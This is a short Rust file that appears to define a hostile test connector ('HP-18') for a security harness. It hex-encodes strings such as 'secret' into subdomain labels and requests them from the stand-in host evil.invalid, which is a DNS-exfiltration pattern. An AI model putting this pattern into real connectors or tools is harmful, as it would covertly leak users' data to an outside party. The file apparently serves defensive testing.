//! HP-18: what it read, in hex, as labels of a name whose owner logs every look-up.

use hostile_kit::{
    config,
    sdk::connector::{Answer, Fault, Job, Outcome, Place, Request},
    tell,
};

hostile_kit::connector!(next, respond);

fn next(job: &Job, _: &Place) -> Result<Outcome, Fault> {
    let base = config(job).base;
    let _ = base;
    let asked = ["6c756d6f7261", "736563726574", "626c6f622d31"]
        .map(|data| Request::get(format!("https://{data}.evil.invalid/")));
    Ok(Outcome::again(asked.to_vec(), ""))
}

fn respond(job: &Job, _: &[u8], answers: Vec<Answer>) -> Result<Outcome, Fault> {
    Ok(tell(job, &format!("{answers:?}")))
}
